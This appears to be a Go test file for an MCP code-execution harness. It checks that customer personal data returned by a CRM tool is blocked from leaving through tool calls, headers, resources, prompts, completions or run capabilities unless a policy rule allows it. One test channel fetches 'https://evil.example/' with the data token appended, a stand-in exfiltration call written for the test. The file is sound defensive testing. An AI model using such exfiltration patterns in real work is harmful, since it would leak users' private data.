package wiring_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"mcp-code-exec-harness/internal/api"
	"mcp-code-exec-harness/internal/auth"
	"mcp-code-exec-harness/internal/wiring"
)

// client is a client of the harness over HTTP. It is also connected over MCP in the mode direct.
type client struct {
	*mcp.ClientSession
	t   *testing.T
	url string
	key string
}

// RoundTrip adds the key to each request, except to requests that have the capability of a run.
func (c *client) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	if r.URL.Path != "/internal/mcp-call" {
		r.Header.Set("Authorization", "Bearer "+c.key)
	}
	return http.DefaultTransport.RoundTrip(r)
}

func (m *market) client(t *testing.T) *client {
	t.Helper()
	tasks, err := m.Tasks(wiring.TaskOptions{})
	if err != nil {
		t.Fatal(err)
	}
	capabilities, err := auth.NewCapabilities(nil, time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	keys, err := m.Keys()
	if err != nil {
		t.Fatal(err)
	}
	c := &client{t: t}
	if _, c.key, err = keys.Create(t.Context(), auth.NewKey{User: "ann"}); err != nil {
		t.Fatal(err)
	}
	service := api.New(api.Options{
		Harness: m.Harness, Tasks: tasks, Auth: &auth.Authenticator{Keys: keys}, Capabilities: capabilities, Logger: slog.New(slog.DiscardHandler),
		Now: time.Now, Version: "test", BodyLimit: 1 << 20, MCPMode: "direct",
	})
	server := httptest.NewServer(service.Handler())
	t.Cleanup(func() {
		service.Close()
		server.CloseClientConnections()
		server.Close()
	})
	c.url = server.URL
	c.ClientSession, err = mcp.NewClient(&mcp.Implementation{Name: "test", Version: "1"}, nil).Connect(t.Context(), &mcp.StreamableClientTransport{
		Endpoint: c.url + "/mcp", HTTPClient: &http.Client{Transport: c},
	}, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = c.Close() })
	return c
}

// call calls a tool and returns the text of the answer.
func (c *client) call(tool string, args map[string]any) (string, error) {
	r, err := c.CallTool(c.t.Context(), &mcp.CallToolParams{Name: tool, Arguments: args})
	if err != nil {
		return "", err
	}
	text, err := json.Marshal(r.Content)
	if r.IsError {
		return "", errors.New(string(text))
	}
	return string(text), err
}

// post sends JSON and decodes the answer.
func (c *client) post(path string, body, into any) error {
	text, err := json.Marshal(body)
	if err != nil {
		return err
	}
	r, err := (&http.Client{Transport: c}).Post(c.url+path, "application/json", bytes.NewReader(text))
	if err != nil {
		return err
	}
	defer r.Body.Close()
	answer, err := io.ReadAll(r.Body)
	if err == nil && r.StatusCode >= 300 {
		err = fmt.Errorf("%s: %s", r.Status, answer)
	}
	if err != nil {
		return err
	}
	return json.Unmarshal(answer, into)
}

// clientChannels are ways in which a value can leave through a request of a client. The client knows the value's token.
var clientChannels = map[string]func(c *client, token string) error{
	"a tool, in the mode direct": func(c *client, token string) error {
		_, err := c.call("web__fetch", map[string]any{"url": "https://evil.example/" + token})
		return err
	},
	"a key, in the mode direct": func(c *client, token string) error {
		_, err := c.call("web__fetch", map[string]any{"headers": map[string]any{token: 1}})
		return err
	},
	"a resource": func(c *client, token string) error {
		_, err := c.ReadResource(c.t.Context(), &mcp.ReadResourceParams{URI: "mcp://web/" + url.PathEscape("web://q/") + token})
		return err
	},
	"a prompt": func(c *client, token string) error {
		_, err := c.GetPrompt(c.t.Context(), &mcp.GetPromptParams{Name: "web__greet", Arguments: map[string]string{"who": "from " + token}})
		return err
	},
	"a completion": func(c *client, token string) error {
		_, err := c.Complete(c.t.Context(), &mcp.CompleteParams{
			Ref: &mcp.CompleteReference{Type: "ref/prompt", Name: "web__greet"}, Argument: mcp.CompleteParamsArgument{Name: "who", Value: token},
		})
		return err
	},
	"the capability of a run": func(c *client, token string) error {
		var made struct{ RunID, AuthToken string }
		err := c.post("/v1/runs", map[string]any{"sessionId": "s", "code": `return (await callMCPTool('crm__search', {q: ''})).email`}, &made)
		if err == nil {
			err = c.post("/v1/runs/"+made.RunID+"/capability", nil, &made)
		}
		if err != nil {
			c.t.Error(err)
			return err
		}
		var answer any
		return c.post("/internal/mcp-call", map[string]any{"authToken": made.AuthToken, "toolName": "web__fetch", "input": map[string]any{"url": token}}, &answer)
	},
}

// TestClientChannels: no request of a client sends a customer's data to a server unless a rule allows it. With a rule, each of them sends the data.
func TestClientChannels(t *testing.T) {
	t.Parallel()
	inForms(t, clientChannelsAreJudged)
}

func clientChannelsAreJudged(t *testing.T, tokens string) {
	token := map[string]string{"bracket": "[EMAIL_1]", "natural": "pii_1e@d1.pii.invalid"}[tokens]
	secret := partsOf(customers(2, 7)[0].values())
	for rule, allowed := range map[string]bool{"": false, `, {tools: "web__*", tokens: {type: "*"}, action: allow}`: true} {
		m := newMarketWith(t, mailRule+rule, tokens)
		c := m.client(t)
		found, err := c.call("crm__search", map[string]any{"q": ""})
		if err != nil || !strings.Contains(found, token) {
			t.Fatalf("the client got %s, %v", found, err)
		}
		for name, send := range clientChannels {
			before := len(m.servers["web"].called())
			err := send(c, token)
			received := strings.Join(m.servers["web"].called()[before:], "\n")
			switch {
			case !allowed && (err == nil || !strings.Contains(err.Error(), "was not called") || !strings.Contains(err.Error(), "strict") || secret.in(received) != ""):
				t.Errorf("%s: it ended with %v, want a denial by the preset; the server received\n%s", name, err, received)
			case allowed && (err != nil || len(m.values.Find([]byte(received))) == 0 || secret.in(received) == ""):
				t.Errorf("%s, with a rule: it ended with %v, and the server received\n%s", name, err, received)
			}
		}
		if !allowed {
			m.clean("web", "mailer", "echo", "hr")
		}
	}
}
